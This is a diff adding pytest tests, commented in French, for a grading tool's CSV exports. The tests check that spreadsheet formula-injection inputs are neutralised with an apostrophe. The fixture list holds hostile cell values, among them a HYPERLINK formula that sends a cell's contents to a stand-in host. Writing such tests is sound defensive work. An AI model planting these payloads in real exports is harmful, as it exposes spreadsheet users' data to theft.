@@ -186,3 +186,93 @@ def test_write_all(tmp_path):
     assert all(path.is_file() for path in paths.values())
     assert paths["resume"].read_text(encoding="utf-8") == \
         report.summary_text("01_ae_lineaire", CELLS, klass()) + "\n"
+
+
+# --- injection CSV (OWASP) ------------------------------------------------------------------------
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = ["=1+2", "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2",
+           '=HYPERLINK("http://exemple.invalid/?"&A1;"clic")']
+
+
+def hostile_class():
+    """Chaque case de texte commence par un début de formule ; les points restent des nombres."""
+    rows = []
+    for i, text in enumerate(HOSTILE):
+        rows.append(StudentRow(f"{text}{i}", {"acp": 4, "normaliser": 0.5, "encodeur": 0}, text, True,
+                               flagged=text if i % 2 else None, name=text,
+                               moodle_id=None if i % 3 else str(100 + i)))
+    rows.append(StudentRow("-absent", {}, "-copie absente", False, name="@nom"))
+    return rows
+
+
+def cells(path):
+    """Les cases du fichier telles qu'un tableur les lit (module csv)."""
+    with open(path, encoding="utf-8", newline="") as stream:
+        return list(csv.reader(stream))
+
+
+@pytest.mark.parametrize("writer, numbers", [(report.write_grades_csv, {2, 3, 4, 5, 6}),
+                                             (report.write_moodle_csv, {2, 3})], ids=["notes", "moodle"])
+def test_no_csv_cell_starts_a_formula(tmp_path, writer, numbers):
+    path = tmp_path / "f.csv"
+    writer(path, "a", CELLS, hostile_class())
+    table = cells(path)
+    assert len(table) == len(hostile_class()) + 1
+    for line in table[1:]:
+        for column, cell in enumerate(line):
+            assert not cell.startswith(FORMULA_START), (column, cell)
+            if column in numbers and cell:
+                float(cell)  # les points restent des nombres que Moodle importe
+            elif cell[1:] and cell[1:].startswith(FORMULA_START):
+                assert cell[0] == "'"  # l'apostrophe de l'OWASP, le texte reçu intact derrière
+
+
+def neutralised(*texts):
+    return {"'" + text.replace("\r", "\n") for text in texts}
+
+
+def test_neutralised_cells_keep_the_text(tmp_path):
+    paths = report.write_all(tmp_path, "a", CELLS, hostile_class())
+    notes, moodle = read(paths["notes"]), read(paths["moodle"])
+    assert {r["nom"] for r in notes} == neutralised(*HOSTILE, "@nom")
+    assert {r["statut"] for r in notes} == neutralised(*HOSTILE, "-copie absente")
+    assert {r["a_verifier"] for r in notes} == {""} | neutralised(*HOSTILE[1::2])
+    assert {r["etudiant"] for r in notes} == neutralised(*(f"{t}{i}" for i, t in enumerate(HOSTILE)), "-absent")
+    assert {r["Feedback comments"].split(" — ")[0] for r in moodle} == neutralised(*HOSTILE, "-copie absente")
+    assert [r["Grade"] for r in moodle].count("4.50") == len(HOSTILE) - len(HOSTILE[1::2])
+
+
+def test_carriage_return_inside_a_cell_never_starts_a_row(tmp_path):
+    """Un retour chariot seul, sans guillemets, ferait commencer au tableur une ligne par « =… »."""
+    row = StudentRow("alice", {"acp": 4}, "notée", True, name="Alice\r=1+2", moodle_id="7")
+    report.write_moodle_csv(tmp_path / "moodle.csv", "a", CELLS, [row])
+    report.write_grades_csv(tmp_path / "notes.csv", "a", CELLS, [row])
+    assert len(cells(tmp_path / "moodle.csv")) == len(cells(tmp_path / "notes.csv")) == 2
+    assert read(tmp_path / "moodle.csv")[0]["Full name"] == "Alice\n=1+2"
+
+
+HONEST_NOTES = (
+    "etudiant,nom,acp,normaliser,encodeur,total,total_max,statut,a_verifier\n"
+    "alice,Alice Dupont,1,2,0,3,10,notée,\n"
+    "bob,Bob Martin,4,0.33,0.67,5,10,notée ; délai dépassé (cellule acp),"
+    "numpy.allclose remplacée (cellule « normaliser »)\n"
+    "carol,Carole Lefèvre,4,3,3,10,10,notée,\n"
+    "dave,Dave Noël,,,,0,10,copie vide : le fichier est vide,\n"
+    "eve,,,,,0,10,copie absente : aucun fichier rendu,\n")
+HONEST_MOODLE = (
+    "Identifier,Full name,Grade,Maximum Grade,Feedback comments\n"
+    "Participant 101,Alice Dupont,3.00,10.00,notée\n"
+    "bob,Bob Martin,,10.00,notée ; délai dépassé (cellule acp) — à vérifier par l'enseignant : "
+    "numpy.allclose remplacée (cellule « normaliser »)\n"
+    "Participant 103,Carole Lefèvre,10.00,10.00,notée\n"
+    "Participant 104,Dave Noël,0.00,10.00,copie vide : le fichier est vide\n"
+    "eve,eve,0.00,10.00,copie absente : aucun fichier rendu\n")
+
+
+def test_honest_class_csv_bytes_unchanged(tmp_path):
+    """Les octets écrits avant la neutralisation des formules, pour une classe sans formule."""
+    report.write_grades_csv(tmp_path / "notes.csv", "a", CELLS, klass())
+    report.write_moodle_csv(tmp_path / "moodle.csv", "a", CELLS, klass())
+    assert (tmp_path / "notes.csv").read_bytes() == HONEST_NOTES.encode("utf-8")
+    assert (tmp_path / "moodle.csv").read_bytes() == HONEST_MOODLE.encode("utf-8")
